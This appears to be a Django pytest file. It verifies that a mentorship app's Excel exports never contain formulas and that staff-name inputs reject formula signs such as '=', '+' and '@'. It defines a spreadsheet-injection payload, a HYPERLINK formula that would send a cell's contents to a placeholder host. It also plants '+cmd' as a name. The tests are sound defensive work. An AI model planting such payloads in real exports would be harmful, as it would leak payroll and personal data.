"""Nothing we export is a formula, and no name carries the signs a formula starts with: a surname
planted as `=HYPERLINK(…)` stays text in every workbook the system writes (the bank export, the
accountant's pay list, the import template), and names are refused such signs on the way in (the
card's form and the staff import)."""

import io
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from mentorship.tests.factories import MentorFactory
from mentorship.tests.test_paperwork_views import fixed_by_order
from people.models import Organization, Person
from people.services import staff_import_prepare
from people.tests.test_imports import HEADER, csv_bytes

PAYLOAD = '=HYPERLINK("http://example.invalid/?d="&J2,"Нажмите")'


@pytest.fixture
def planted(world, settings, tmp_path):
    """A mentor whose surname was planted past every check (straight into the database), paid
    under an agreement in March 2027, and a mentee's difficulties beside it in the bank."""
    settings.MEDIA_ROOT = tmp_path
    own = Organization.own()
    own.mentor_pay_rule, own.mentor_pay_amount = Organization.PayRule.FIXED, Decimal("3000.00")
    own.save()
    mentor = MentorFactory()
    fixed_by_order(world, mentor, [world.mentee])
    Person.objects.filter(pk=mentor.person_id).update(last_name=PAYLOAD, first_name="+cmd", middle_name="@SUM(1)")
    return mentor


def formulas(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize(
    "url",
    [
        lambda: reverse("mentorship:export"),
        lambda: reverse("mentorship:payroll-xlsx", args=[2027, 3]),
        lambda: reverse("people:import-template"),
    ],
    ids=["bank-export", "payroll", "import-template"],
)
def test_no_workbook_we_write_holds_a_formula(world, client_as, planted, url):
    response = client_as("head" if "import" not in url() else "curator").get(url())
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert formulas(content) == []
    if "import" not in url():
        texts = [
            cell.value
            for sheet in load_workbook(io.BytesIO(content)).worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
        assert any(isinstance(value, str) and PAYLOAD in value for value in texts)  # kept, as text


def test_the_card_refuses_a_name_with_a_formula_sign_and_keeps_what_was_typed(world, client_as):
    before = Person.objects.count()
    response = client_as("curator").post(
        reverse("people:person-create"),
        {
            "last_name": "=Петрова",
            "first_name": "Анна",
            "middle_name": "",
            "organization": Organization.own().pk,
            "position": Person.objects.first().position_id,
            "qualification_category": "none",
            "status": "working",
        },
    )
    assert response.status_code == 200
    assert "В имени допустимы только буквы" in response.content.decode()
    assert 'value="=Петрова"' in response.content.decode()
    assert Person.objects.count() == before


@pytest.mark.parametrize("name", ["=Петрова", "+Петрова", "@Петрова", "Петрова1", "Пет<рова"])
def test_the_import_lists_a_row_with_such_a_name_and_writes_nothing(world, name):
    rows = [HEADER, ["201", name, "Анна", "", "Воспитатель", "01.09.2026", "", ""]]
    before = Person.objects.count()
    batch, plan = staff_import_prepare(
        organization=Organization.own(), name="s.csv", content=csv_bytes(rows), actor=world.users["curator"]
    )
    assert batch is None
    assert "знаки, которых не бывает в именах" in plan.problems[0].reasons[-1]
    assert Person.objects.count() == before


@pytest.mark.parametrize("name", ["Петрова-Водкина", "д'Артаньян", "Мамин-Сибиряк", "Анна Мария", "O’Brien", "Жан."])
def test_real_names_pass(world, name):
    person = Person(
        organization=Organization.own(), last_name=name, first_name="Анна", position=Person.objects.first().position
    )
    try:
        person.full_clean()
        errors = {}
    except ValidationError as error:
        errors = error.message_dict
    assert "last_name" not in errors
